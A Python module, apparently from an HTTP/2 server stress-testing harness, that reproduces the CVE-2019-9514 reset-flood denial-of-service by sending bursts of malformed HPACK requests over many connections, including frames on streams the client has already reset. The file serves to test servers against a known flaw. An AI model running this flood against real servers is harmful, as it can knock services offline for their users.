"""Requests that are not valid, each of which the program answers by resetting the stream, which the
client may not read."""

from lib.attack import HTTP2, Attack, Case, scale
from lib.frames import frame, literal, request, reset, text, DATA, END_STREAM

CONNECTIONS = 16
SILENT = scale(64, 256)
# Without a path; with a field of a connection; with an upper-case name; with a second method.
MALFORMED = (
    b"\x82\x87",
    b"\x82\x87\x84\x01" + text(b"edge.test") + literal(b"connection", b"close"),
    b"\x82\x87\x84\x01" + text(b"edge.test") + literal(b"X-Upper", b"v"),
    b"\x82\x83\x87\x84\x01" + text(b"edge.test"),
)
BURST = 50


def flood(attacker, connections, reads, make):
    def burst(wire, at):
        return b"".join(make(stream, at) for stream in wire.streams(BURST))

    def begin(at):
        return attacker.http2(at=at, reads=reads)

    attacker.flood(connections, begin, burst, "requests", BURST)


def malformed(stream, at):
    return request(stream, MALFORMED[at % len(MALFORMED)])


def read(attacker):
    flood(attacker, CONNECTIONS, True, malformed)


def unread(attacker):
    flood(attacker, SILENT, False, malformed)


def closed(attacker):
    """Frames for streams that the client has reset itself."""
    late = b"x" * 16
    flood(attacker, CONNECTIONS, True, lambda stream, at: (
        request(stream, MALFORMED[1]) + reset(stream) + frame(DATA, END_STREAM, stream, late)))


ATTACK = Attack(
    title="reset flood",
    published="CVE-2019-9514",
    cases=(
        Case("read", HTTP2, read, {"requests": 5_000}, is_long=True),
        Case("unread", HTTP2, unread, {"requests": 1_000}),
        Case("frames of closed streams", HTTP2, closed, {"requests": 5_000}),
    ),
)
